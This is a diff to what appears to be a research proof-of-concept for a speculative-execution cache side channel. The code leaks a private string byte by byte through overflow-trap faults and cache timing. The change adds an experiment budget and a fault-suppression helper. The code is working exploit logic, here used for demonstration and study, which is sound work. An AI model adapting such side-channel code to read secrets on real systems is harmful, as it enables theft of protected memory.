@@ -36,8 +36,9 @@
 #include <iostream>
 
 #include "cache_sidechannel.h"
+#include "experiment.h"
+#include "fault_suppression.h"
 #include "instr.h"
-#include "faults.h"
 #include "local_content.h"
 #include "utils.h"
 
@@ -48,11 +49,15 @@ constexpr int kOverflowSignal = SIGSEGV;
 constexpr int kOverflowSignal = SIGFPE;
 #endif
 
-static char LeakByte(const char *data, size_t offset) {
-  CacheSideChannel sidechannel;
+static ExperimentOutcome LeakByte(CacheSideChannel &sidechannel,
+                                  const char *data, size_t offset,
+                                  const ExperimentBudget &budget) {
+  sidechannel.ResetScores();
   const std::array<BigByte, 256> &oracle = sidechannel.GetOracle();
+  // Sets up the fault suppression once for all runs.
+  FaultSuppressor suppressor(kOverflowSignal);
 
-  for (int run = 0;; ++run) {
+  return RunExperiment(sidechannel, budget, [&](int run) {
     size_t safe_offset = run % strlen(data);
     sidechannel.FlushOracle();
 
@@ -69,7 +74,7 @@ static char LeakByte(const char *data, size_t offset) {
       bool firstbit = reinterpret_cast<ptrdiff_t>(unsafe_address) & 0x80000000;
       int shift = INT_MAX - 2 * firstbit * INT_MAX;
 
-      bool handled_fault = RunWithFaultHandler(kOverflowSignal, [&]() {
+      bool handled_fault = suppressor.Run([&]() {
         // Delay retirement of OF trap.
         ExtendSpeculationWindow();
 
@@ -83,26 +88,24 @@ static char LeakByte(const char *data, size_t offset) {
       }
     }
 
-    std::pair<bool, char> result =
-        sidechannel.RecomputeScores(data[safe_offset]);
-
-    if (result.first) {
-      return result.second;
-    }
-
-    if (run > 100000000) {
-      std::cerr << "Does not converge " << result.second << std::endl;
-      exit(EXIT_FAILURE);
-    }
-  }
+    return sidechannel.RecomputeScores(data[safe_offset]);
+  });
 }
 
 int main() {
+  CacheSideChannel sidechannel;
   std::cout << "Leaking the string: ";
   std::cout.flush();
   const size_t private_offset = private_data - public_data;
   for (size_t i = 0; i < strlen(private_data); ++i) {
-    std::cout << LeakByte(public_data, private_offset + i);
+    ExperimentOutcome outcome = LeakByte(sidechannel, public_data,
+                                         private_offset + i,
+                                         ExperimentBudget());
+    if (!outcome.converged) {
+      std::cerr << "Does not converge " << outcome.value << std::endl;
+      exit(EXIT_FAILURE);
+    }
+    std::cout << outcome.value;
     std::cout.flush();
   }
   std::cout << "\nDone!\n";